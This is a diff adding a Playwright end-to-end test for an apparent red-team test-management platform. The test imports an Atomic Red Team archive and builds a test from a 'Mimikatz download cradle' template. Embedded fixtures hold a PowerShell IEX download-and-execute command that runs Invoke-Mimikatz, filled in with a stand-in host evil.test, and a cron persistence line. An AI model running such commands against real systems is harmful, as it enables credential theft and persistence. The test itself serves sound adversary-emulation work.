@@ -1,0 +1,119 @@
+import { expect, test } from "@playwright/test";
+import { execFileSync } from "node:child_process";
+import * as fs from "node:fs";
+import * as os from "node:os";
+import * as path from "node:path";
+import { signInAndWait, watchProblems } from "./helpers";
+import { adminPassword } from "../playwright.config";
+
+const fixture = path.resolve(__dirname, "../../server/tests/fixtures/attack-mini.json");
+
+const POWERSHELL = `attack_technique: T1059.001
+display_name: PowerShell
+atomic_tests:
+- name: Mimikatz download cradle
+  auto_generated_guid: 6f1c1f4e-8a1e-4c55-9b0e-2f3a4b5c6d70
+  description: Downloads Mimikatz and dumps credentials.
+  supported_platforms: [windows]
+  input_arguments:
+    mimurl:
+      description: Mimikatz URL
+      type: url
+      default: https://example.test/Invoke-Mimikatz.ps1
+  executor:
+    name: powershell
+    elevation_required: true
+    command: IEX (New-Object Net.WebClient).DownloadString('#{mimurl}'); Invoke-Mimikatz
+`;
+
+const CRON = `attack_technique: T1053
+display_name: Scheduled Task/Job
+atomic_tests:
+- name: Cron persistence
+  auto_generated_guid: 6f1c1f4e-8a1e-4c55-9b0e-2f3a4b5c6d71
+  description: Adds a cron job.
+  supported_platforms: [linux]
+  executor:
+    name: sh
+    command: echo '* * * * * id' | crontab -
+`;
+
+/** A zip laid out like GitHub's archive of Atomic Red Team (built with Python's zipfile). */
+function atomicsZip(): string {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "aegis-atomics-"));
+  const root = path.join(dir, "atomic-red-team-master", "atomics");
+  fs.mkdirSync(path.join(root, "T1059.001"), { recursive: true });
+  fs.mkdirSync(path.join(root, "T1053"), { recursive: true });
+  fs.writeFileSync(path.join(root, "T1059.001", "T1059.001.yaml"), POWERSHELL);
+  fs.writeFileSync(path.join(root, "T1053", "T1053.yaml"), CRON);
+  const zip = path.join(dir, "atomic-red-team.zip");
+  execFileSync("python3", ["-m", "zipfile", "-c", zip, path.join(dir, "atomic-red-team-master")]);
+  return zip;
+}
+
+test.describe.configure({ mode: "serial" });
+
+test("an admin imports Atomic Red Team, a red tech starts a test from a template and finds the command pre-filled", async ({
+  browser,
+  request,
+}) => {
+  const login = await request.post("/api/v1/auth/login", { data: { username: "admin", password: adminPassword } });
+  const headers = { Authorization: `Bearer ${(await login.json()).access_token}` };
+  expect(
+    (
+      await request.post("/api/v1/system/import-attack-bundle", {
+        headers,
+        multipart: { file: { name: "attack-mini.json", mimeType: "application/json", buffer: fs.readFileSync(fixture) } },
+      })
+    ).status(),
+  ).toBe(200);
+  const created = await request.post("/api/v1/users", {
+    headers,
+    data: { username: "catalog_red", password: "catalog-password-1", role: "red_tech", display_name: "Catalog Red" },
+  });
+  expect([201, 409]).toContain(created.status());
+
+  // The admin uploads the archive in the System panel and watches the import.
+  const adminContext = await browser.newContext();
+  const admin = await adminContext.newPage();
+  const adminProblems = watchProblems(admin);
+  await signInAndWait(admin, "admin", adminPassword);
+  await admin.goto("/admin/system", { waitUntil: "networkidle" });
+  await admin.locator("#atomics-file").setInputFiles(atomicsZip());
+  await admin.locator("#atomics-upload").click();
+  await expect(admin.locator("#job-progress")).toHaveAttribute("data-status", "succeeded", { timeout: 30_000 });
+  await expect(admin.locator("#job-outcome")).toContainText("2 added");
+  await expect(admin.locator('#atomics-history tr[data-status="succeeded"]').first()).toContainText("upload:atomic-red-team.zip");
+
+  // A red tech finds it for T1059.001 and creates a test from it.
+  const redContext = await browser.newContext();
+  const red = await redContext.newPage();
+  const redProblems = watchProblems(red);
+  await signInAndWait(red, "catalog_red", "catalog-password-1");
+  await red.getByRole("link", { name: "Test catalog" }).click();
+  await red.waitForLoadState("networkidle");
+  await red.locator("#catalog-technique").fill("T1059.001");
+  await red.locator("#catalog-filter").click();
+  await expect(red).toHaveURL(/technique=T1059.001/);
+  await expect(red.locator("#catalog-table tbody tr")).toHaveCount(1);
+  await red.locator('#catalog-table [data-template="Mimikatz download cradle"] a').click();
+  await expect(red.locator("#template-name")).toHaveText("Mimikatz download cradle");
+  await expect(red.locator("#template-command")).toContainText("#{mimurl}");
+  await red.waitForLoadState("networkidle");
+  await red.locator("#argument-mimurl").fill("https://evil.test/m.ps1");
+  await red.locator("#create-from-template-submit").click();
+  await expect(red).toHaveURL(/\/tests\/[0-9a-f-]{36}$/);
+  await expect(red.locator("#test-title")).toHaveText("Mimikatz download cradle");
+  await red.locator("#tab-red").click();
+  await expect(red.locator("#field-command_executed")).toHaveValue(
+    "IEX (New-Object Net.WebClient).DownloadString('https://evil.test/m.ps1'); Invoke-Mimikatz",
+  );
+  await expect(red.locator("#red-procedure")).toContainText("# executor: powershell (elevation required)");
+
+  // The technique page lists the template too.
+  await red.goto("/techniques/T1059.001", { waitUntil: "networkidle" });
+  await expect(red.locator("#technique-templates")).toContainText("Mimikatz download cradle");
+
+  expect(adminProblems).toEqual([]);
+  expect(redProblems).toEqual([]);
+});
